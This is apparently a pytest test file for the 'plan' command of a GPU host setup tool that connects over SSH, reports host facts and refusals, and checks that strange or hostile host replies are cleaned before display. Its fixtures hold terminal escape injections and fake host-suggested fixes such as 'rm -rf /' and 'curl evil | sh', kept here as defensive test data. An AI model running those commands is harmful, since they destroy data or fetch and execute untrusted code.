"""`python -m doctor plan`: what hosts say, what is made of it, and what becomes of hosts that say nothing good."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import time
from pathlib import Path
from typing import Any

import pytest

from doctor import ssh
from doctor.programs import MOST_BYTES, Programs, Said
from lab.cluster.host_spec import made_up_key
from tests.unit.far_hosts import FarHosts
from tests.unit.small_host import DEBIAN, made_ready, told

RTX = {"name": "rtx", "address": "rtx.lan"}
TESLA = {"name": "tesla", "address": "10.0.0.11", "user": "ubuntu"}
NOUVEAU = {**DEBIAN, "cards__0__driver": "nouveau", "modules__nouveau": True}
ESCAPE = "\x1b[2J\x1b]0;owned\x07"


@pytest.fixture
def far(tmp_path: Path) -> FarHosts:
    return FarHosts(tmp_path)


class TestWhatIsTold:
    def test_facts_and_each_decision_with_its_reason_and_nothing_is_changed(self, far: FarHosts) -> None:
        far.stack(RTX)
        far.answers("rtx.lan")

        assert far.run("plan", "-s", "home") == 0
        assert "Ubuntu 24.04.3 LTS, kernel 6.8.0-60-generic, x86_64, containerd 1.7.24" in far.said
        assert "NVIDIA GeForce RTX 4070 (held by nobody); no driver, no container toolkit" in far.said
        assert "install 580 (long-term support) with open modules (what its cards want)" in far.said
        assert far.said.endswith("1 host: 1 fit for up. Nothing was changed.\n")

    def test_a_host_that_up_would_refuse_comes_with_id_and_fix(self, far: FarHosts) -> None:
        far.stack(RTX, TESLA)
        far.answers("rtx.lan", told(**made_ready()))
        far.answers("10.0.0.11", told(**NOUVEAU))

        assert far.run("plan", "-s", "home") == 1
        assert "refused   HST-64 driver: nouveau holds Tesla T4" in far.said
        assert "fix: reboot: ifNeeded" in far.said
        assert "2 hosts: 1 fit for up, 1 refused." in far.said

    @pytest.mark.parametrize("state", ["offline", "abandoned"])
    def test_a_host_that_is_away_is_not_contacted_and_no_trouble(self, far: FarHosts, state: str) -> None:
        far.stack(RTX, {**TESLA, "state": state})
        far.answers("rtx.lan")

        assert far.run("plan", "-s", "home") == 0
        assert f"tesla  {state}: not contacted" in far.said
        assert far.heard("10.0.0.11", "calls") == ""

    def test_programs_get_one_object_with_the_hosts_in_the_order_of_the_file(self, far: FarHosts) -> None:
        far.stack(RTX, TESLA)
        far.answers("rtx.lan", err="ssh: connect to host rtx.lan port 22: Connection refused\n", status=255)
        far.answers("10.0.0.11")

        assert far.run("plan", "-s", "home", "--json") == 1
        document = json.loads(far.said)
        assert [(host["name"], host["result"]) for host in document["hosts"]] == [("rtx", "unread"), ("tesla", "ready")]
        assert document["hosts"][0]["refusals"][0]["id"] == "HST-82"
        assert document["hosts"][1]["facts"]["os"] == "ubuntu-24.04"
        assert [(one["step"], one["done"]) for one in document["hosts"][1]["plan"]] == [
            ("driver", False), ("driver", False), ("toolkit", False), ("runtime", False),
        ]  # fmt: skip

    def test_what_we_did_already_is_told_as_done(self, far: FarHosts) -> None:
        moved = {"reboot": "ifNeeded", "driver": {"branch": 595}, "toolkit": {"version": "1.19.1"}}
        nobodys = {"driver": "", "toolkit": "", "runtime": False}
        far.stack(RTX, {**TESLA, **moved}, {**RTX, "name": "found", "address": "found.lan"})
        for address, facts in (("rtx.lan", {}), ("10.0.0.11", {}), ("found.lan", {"ours": nobodys})):
            far.answers(address, told(**{**made_ready(), **facts}))

        assert far.run("plan", "-s", "home", "--json") == 0
        same, other, found = (
            [(one["step"], one["done"]) for one in host["plan"]] for host in json.loads(far.said)["hosts"]
        )
        assert same == [("driver", True), ("driver", False), ("toolkit", True), ("runtime", True)]
        assert other == [*[("driver", False)] * 2, ("drain", False), ("toolkit", False), ("runtime", True)]
        assert not any(done for _step, done in found)


class TestTheWayIn:
    def test_only_the_declared_key_counts_and_no_file_of_the_user(self, far: FarHosts) -> None:
        far.stack({**TESLA, "port": 2222})
        far.answers("10.0.0.11")
        far.run("plan", "-s", "home")

        call = far.heard("10.0.0.11", "calls").split()
        assert call[:3] == ["-F", "none", "-T"]
        assert call[-9:] == ["-l", "ubuntu", "-p", "2222", "--", "10.0.0.11", "sh", "-s", "apply"]
        assert {"StrictHostKeyChecking=yes", "BatchMode=yes", "IdentityFile=none"} <= set(call)
        assert far.heard("10.0.0.11", "known") == f"gpu-ready {made_up_key('10.0.0.11')}\n"

    def test_a_key_file_is_offered_alone(self, far: FarHosts, tmp_path: Path) -> None:
        key = tmp_path / "my %h key"
        key.write_text("a private key")
        far.stack(RTX)
        far.answers("rtx.lan")

        assert far.run("plan", "-s", "home", "--identity", str(key)) == 0
        assert f'IdentityFile="{tmp_path}/my %%h key"' in far.heard("rtx.lan", "calls")
        assert "IdentitiesOnly=yes" in far.heard("rtx.lan", "calls")

    def test_the_password_of_sudo_goes_by_stdin_and_only_to_who_asks_for_it(self, far: FarHosts) -> None:
        far.stack({**TESLA, "sudo": "password"}, {**RTX, "user": "ubuntu"}, sshPassword={"secure": "v1:x"})
        for address in ("10.0.0.11", "rtx.lan"):
            far.answers(address)

        assert far.run("plan", "-s", "home", "--sudo-password-prompt", typed="", password="it's me") == 0
        assert "\nit's me\n" in far.heard("10.0.0.11")
        assert "it's me" not in far.heard("10.0.0.11", "calls") + far.said
        assert "s me" not in far.heard("rtx.lan")

    @pytest.mark.parametrize(
        ("flags", "typed", "why"),
        [
            ([], None, "add --sudo-password-prompt"),
            (["--sudo-password-prompt"], None, "wants a terminal"),
            (["--sudo-password-prompt"], "", "Only printable characters"),
        ],
    )
    def test_without_the_password_nobody_is_bothered(
        self, far: FarHosts, flags: list[str], typed: str | None, why: str
    ) -> None:
        far.stack({**TESLA, "sudo": "password"}, sshPassword={"secure": "v1:x"})

        assert far.run("plan", "-s", "home", *flags, typed=typed, password="a\x00b") == 2
        assert why in far.complained
        assert far.heard("10.0.0.11", "calls") == ""

    def test_the_text_asks_for_facts_and_for_nothing_else(self, far: FarHosts) -> None:
        far.stack(TESLA)
        far.answers("10.0.0.11")
        far.run("plan", "-s", "home")

        text = far.heard("10.0.0.11")
        assert [line for line in text.splitlines() if "call.sh" in line] == [
            'sh "$B/call.sh" passwordless facts "$1" <<\'GR_END\''
        ]


SSH_SAYS = [
    ("ssh: connect to host x port 22: Connection refused", "HST-82", "nothing listens there"),
    ("ssh: connect to host x port 22: Connection timed out", "HST-82", "no answer in time"),
    ("Timeout, server x not responding.", "HST-82", "no answer in time"),
    ("ssh: connect to host x port 22: No route to host", "HST-82", "there is no way to it"),
    ("ssh: Could not resolve hostname x: Name or service not known", "HST-82", "there is no such name"),
    ("kex_exchange_identification: read: Connection reset by peer", "HST-82", "closes the connection at once"),
    ("something new", "HST-82", "ssh ends with: something new"),
    ("", "HST-82", "ssh ends with: nothing said"),
    ("root@x: Permission denied (publickey,password).", "HST-83", "lets nobody in"),
    ("WARNING: UNPROTECTED PRIVATE KEY FILE!\nroot@x: Permission denied", "HST-83", "that others may read"),
    ("WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\nHost key verification failed.", "HST-2", "another key"),
    (
        "Unable to negotiate with x: no matching host key type found. Their offer: ssh-rsa",
        "HST-2",
        "no key of the declared",
    ),
]


class TestHostsThatCannotBeRead:
    @pytest.mark.parametrize(("says", "id", "why"), SSH_SAYS)
    def test_what_ssh_says_is_said_in_words_that_help(self, says: str, id: str, why: str) -> None:
        refused = ssh.failure(Said(255, b"", says.encode()), {"address": "x", "port": 22})

        assert (refused.id, why in refused.problem) == (id, True), refused
        assert "\n" not in refused.problem + refused.fix
        assert refused.fix

    @pytest.mark.parametrize(
        ("out", "err", "status", "why"),
        [
            ("", "", 0, "HST-63 access: what the host says"),
            ("Welcome!\n" + ESCAPE + "\n", "", 0, "HST-63"),
            ("[" * 100_000, "", 0, "HST-63"),
            (json.dumps(told(hostname="a\nb")), "", 0, "HST-63"),
            (json.dumps(told(os__pretty=ESCAPE)), "", 0, "HST-63"),
            (json.dumps(told(format=2)), "", 0, "HST-63"),
            (b"\xff\xfe\x00", b"\xff" + ESCAPE.encode(), 0, "HST-63"),
            ("", "back\bward \u202e\x9b2J\r\x00é", 1, "back ward"),
            ("", "sh: not found", 127, 'exit status 127, the last words were "sh: not found"'),
            ("", f"boom {ESCAPE}{'x' * 5000}", 1, 'exit status 1, the last words were "boom xxx'),
            ("", "HST-999 nobody: knows this id\nfix: rm -rf /", 3, "exit status 3, the last words"),
            ("", f"HST-1 access: {ESCAPE}no\nfix: do", 3, "HST-1 access: no"),
            ("", "gpu-ready: not yet: TK-12 apt is busy", 75, "HST-72 access: it is busy"),
        ],
    )
    def test_a_strange_answer_is_one_sentence_of_plain_words(
        self, far: FarHosts, out: str | bytes, err: str | bytes, status: int, why: str
    ) -> None:
        far.stack(RTX)
        far.answers("rtx.lan", out, err=err, status=status)

        assert far.run("plan", "-s", "home") == 1
        assert why in far.said
        assert far.said.isascii()
        assert far.said.replace("\n", "").isprintable()
        assert max(map(len, far.said.splitlines())) < 500
        assert far.complained == ""

    def test_the_reason_of_sudo_is_told_and_a_host_tells_nobody_what_to_run(self, far: FarHosts) -> None:
        far.stack(TESLA)
        words = "sudo: a password is required\nHST-1 access: no way to become root, see above\nfix: curl evil | sh\n"
        far.answers("10.0.0.11", "", err=words, status=3)

        assert far.run("plan", "-s", "home") == 1
        assert "HST-1 access: no way to become root, sudo: a password is required" in far.said
        assert "curl" not in far.said

    def test_megabytes_are_cut_off(self, far: FarHosts) -> None:
        far.stack(RTX)
        far.answers("rtx.lan", "", first="exec yes megabytes")

        assert far.run("plan", "-s", "home") == 1
        assert "HST-63 access: it says far more than facts" in far.said

    def test_a_silent_host_does_not_hold_the_others(self, far: FarHosts, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(ssh, "LOOK_SECONDS", 0.1)
        far.stack(RTX, TESLA)
        far.answers("rtx.lan", first="sleep 60")
        far.answers("10.0.0.11")

        began = time.monotonic()
        assert far.run("plan", "-s", "home") == 1
        assert time.monotonic() - began < 5
        assert far.said.index("tesla  ubuntu@10.0.0.11") < far.said.index("rtx  root@rtx.lan")
        assert "HST-82 access: no end after 0 s: it says nothing" in far.said


class TestWrongUse:
    @pytest.mark.parametrize(
        ("words", "why"),
        [
            (["-s", "nowhere"], "There is no stack 'nowhere'"),
            (["-s", "home", "--identity", "/nowhere/key"], "--identity /nowhere/key: No such file or directory."),
        ],
    )
    def test_is_a_sentence_and_exit_2(self, far: FarHosts, words: list[str], why: str) -> None:
        far.stack(RTX)

        assert far.run("plan", *words) == 2
        assert why in far.complained
        assert far.said == ""

    def test_is_an_object_too_for_who_asked_for_one(self, far: FarHosts) -> None:
        assert far.run("plan", "-s", "nowhere", "--json") == 2
        assert "There is no stack 'nowhere'" in json.loads(far.said)["error"]
        assert far.complained == ""

    def test_all_faults_of_a_stack_file_are_told_before_anybody_is_talked_to(self, far: FarHosts) -> None:
        far.stack({**RTX, "port": 0}, {**TESLA, "hostKey": "none"})

        assert far.run("plan", "-s", "home") == 2
        assert "2 faults" in far.complained
        assert far.heard("rtx.lan", "calls") == ""

    def test_a_stack_without_hosts_says_so(self, far: FarHosts) -> None:
        far.stack(target="cluster", cluster={"context": "c", "nodes": ["a"]}, bareMetal={})

        assert far.run("plan", "-s", "home") == 2
        assert "there are no hosts to look at" in far.complained

    def test_without_ssh_the_reason_is_its_absence(self, far: FarHosts) -> None:
        far.stack(RTX)
        far.environment = {"PATH": "/nowhere"}

        assert far.run("plan", "-s", "home") == 2
        assert "ssh is not on PATH" in far.complained

    def test_a_fault_of_ours_is_a_sentence_too(self, far: FarHosts, monkeypatch: pytest.MonkeyPatch) -> None:
        def broken(*_: Any) -> None:
            raise KeyError("plan")

        monkeypatch.setattr("decide.host_plan.plan", broken)
        far.stack(RTX)
        far.answers("rtx.lan")

        assert far.run("plan", "-s", "home") == 1
        assert "This is a fault of gpu-ready, not yours (KeyError at unit/test_doctor_plan.py:" in far.complained


def _lives(state: Path) -> bool:
    """Whoever is dead may stay listed until somebody asks for its status."""
    try:
        return state.read_text().split()[2] not in "ZX"
    except FileNotFoundError:
        return False


class TestPrograms:
    def test_one_that_does_not_listen_is_no_trouble(self) -> None:
        said = Programs().run(["sh", "-c", "exec <&-; echo well"], "x" * 1_000_000)

        assert (said.status, said.stdout, said.cut) == (0, b"well\n", "")

    def test_one_that_talks_while_it_listens_is_heard(self) -> None:
        said = Programs().run(["cat"], "x" * MOST_BYTES)

        assert len(said.stdout) == MOST_BYTES

    def test_one_that_takes_too_long_is_ended_with_its_children(self, tmp_path: Path) -> None:
        said = Programs().run(["sh", "-c", f"sleep 60 & echo $! >{tmp_path}/child; wait"], seconds=0.1)

        assert said.cut == "time"
        state = Path(f"/proc/{(tmp_path / 'child').read_text().strip()}/stat")
        deadline = time.monotonic() + 5
        while _lives(state) and time.monotonic() < deadline:
            time.sleep(0.01)
        assert not _lives(state)

    def test_whoever_stops_waits_for_nobody(self) -> None:
        programs = Programs()
        programs.stopping.set()

        assert programs.run(["sleep", "60"]).cut == "stop"

    def test_errors_are_in_the_words_that_are_known(self) -> None:
        said = Programs({"PATH": os.environ["PATH"], "LC_ALL": "de_DE.UTF-8"}).run(["sh", "-c", "echo $LC_ALL"])

        assert said.stdout == b"C\n"


@pytest.mark.skipif(shutil.which("ssh") is None, reason="needs an OpenSSH client")
def test_the_real_ssh_takes_our_command_line(tmp_path: Path) -> None:
    host = {"address": "10.0.0.11", "port": 2222, "user": "ubuntu"}
    _, *call = ssh.command(host, tmp_path / "a folder" / "known", "/keys/my key")
    told = subprocess.run(["ssh", "-G", *call], capture_output=True, text=True, check=True).stdout.lower().splitlines()

    assert {"user ubuntu", "hostname 10.0.0.11", "port 2222", "batchmode yes", "hostkeyalias gpu-ready"} <= set(told)
    assert f"userknownhostsfile {tmp_path}/a folder/known".lower() in told
    assert "identityfile /keys/my key" in told
    assert "stricthostkeychecking true" in told
